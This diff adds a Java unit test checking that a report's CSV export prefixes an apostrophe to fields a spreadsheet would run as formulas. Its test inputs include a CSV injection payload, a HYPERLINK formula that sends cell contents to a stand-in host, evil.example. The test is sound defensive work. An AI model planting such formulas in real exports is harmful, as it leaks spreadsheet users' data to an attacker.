@@ -110,6 +110,45 @@ class ReportFormatTest {
     assertThat(smallReport().toCsv()).isEqualTo(expected);
   }
 
+  private static CheckResult seat(String subjectId, String label) {
+    return CheckResult.builder()
+        .checkId("reclaimable-seats")
+        .subjectType("seat")
+        .subjectId(subjectId)
+        .label(label)
+        .status(Status.FAIL)
+        .reasonCode("HOLDER_UNKNOWN")
+        .detail("x")
+        .putEvidence("email", "=1+1")
+        .build();
+  }
+
+  @Test
+  void csvFieldsThatASpreadsheetWouldRunAsFormulasStartWithAnApostrophe() {
+    Report report =
+        Report.builder()
+            .asOf(LocalDate.of(2026, 11, 23))
+            .partial(false)
+            .inputs(smallReport().inputs())
+            .addResults(
+                seat("=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")", "@SUM(A1:A9)"),
+                seat("+1", "-2+3"),
+                seat("\t=1", "\r=1"),
+                seat("a=1", " =1"))
+            .build();
+
+    assertThat(report.toCsv())
+        .isEqualTo(
+            ReportCsv.HEADER
+                + "\n"
+                + "reclaimable-seats,seat,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Open\"\")\","
+                + "FAIL,HOLDER_UNKNOWN,x,email==1+1,'@SUM(A1:A9)\n"
+                + "reclaimable-seats,seat,'+1,FAIL,HOLDER_UNKNOWN,x,email==1+1,'-2+3\n"
+                + "reclaimable-seats,seat,'\t=1,FAIL,HOLDER_UNKNOWN,x,email==1+1,\"'\r=1\"\n"
+                + "reclaimable-seats,seat,a=1,FAIL,HOLDER_UNKNOWN,x,email==1+1, =1\n");
+    assertThat(report.toJson()).contains("\"subjectId\": \"+1\", \"label\": \"-2+3\"");
+  }
+
   @Test
   void emptyReportHasEmptyArraysAndNullScopes() {
     Report empty =
